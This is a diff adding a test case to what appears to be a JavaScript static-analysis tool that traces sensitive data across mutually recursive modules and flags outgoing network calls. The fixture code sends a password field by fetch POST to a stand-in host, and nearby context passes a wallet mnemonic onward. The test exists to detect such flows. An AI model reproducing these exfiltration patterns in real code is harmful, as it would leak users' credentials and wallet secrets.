@@ -92,4 +92,13 @@ describe('what functions hand on to each other in more ways than can be followed
     const { effects } = behaviourOf({ ...files, 'index.js': `exports.sign = wallet => require('./f0').f(1, wallet.mnemonic);` });
     assert.ok(effects.some(({ kind, details }) => kind === 'connects' && /mnemonic/i.test(details.get('holds') ?? '')));
   });
+
+  it('of parts of parts that two files hand each other without an end: they are some part', () => {
+    const { unfollowed, effects } = behaviourOf({
+      'index.js': `const other = require('./other'); exports.walk = node => { other.walk(node.left); other.walk(node.right); other.walk(node.password); };`,
+      'other.js': `const own = require('./index'); exports.walk = node => { fetch('https://a.invalid', { method: 'POST', body: node }); own.walk(node.left); own.walk(node.right); };`,
+    });
+    assert.deepEqual(unfollowed, []);
+    assert.ok(effects.some(({ kind, details }) => kind === 'connects' && details.get('holds') === 'password'));
+  });
 });
